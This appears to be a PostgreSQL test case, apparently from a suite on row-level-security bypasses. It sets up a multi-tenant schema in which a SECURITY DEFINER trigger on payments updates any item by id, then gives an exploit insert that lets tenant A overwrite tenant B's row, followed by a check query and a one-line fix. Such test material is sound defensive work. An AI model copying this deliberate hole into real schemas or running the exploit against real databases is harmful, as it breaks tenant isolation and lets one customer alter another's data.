-- What: A payment trigger with definer rights updates an account by the id that the payment names.
-- Class: trigger_copies|function_definer|trigger_definer
-- Object: public.payments | public.items | public.pay()
-- Exploit: INSERT a row of A's own that names B's.
-- @schema
create table items (id bigint generated always as identity primary key, tenant_id uuid not null, body text not null);
alter table items enable row level security;
alter table items force row level security;
create policy tenant on items using (tenant_id::text = current_setting('app.tenant_id', true));
grant select, insert, update, delete on items to app_user;
create table payments (id bigint generated always as identity primary key, tenant_id uuid not null,
  item_id bigint not null, note text not null);
alter table payments enable row level security;
alter table payments force row level security;
create policy tenant on payments using (tenant_id::text = current_setting('app.tenant_id', true));
grant select, insert on payments to app_user;
-- @superuser
create function pay() returns trigger language plpgsql security definer set search_path = pg_catalog, pg_temp as $$
begin
  update public.items set body = new.note where id = new.item_id;
  return new;
end $$;
create trigger pay after insert on payments for each row execute function pay();
-- @rows
insert into items (tenant_id, body) values (:'A', 'A-row'), (:'B', 'B-secret');
-- @fix
alter function pay() security invoker;
-- @control
select from items where tenant_id = :'A';
-- @exploit
insert into payments (tenant_id, item_id, note) values (:'A', 2, 'stolen');
-- @look
select 1 from items where tenant_id = :'B' and body <> 'B-secret';
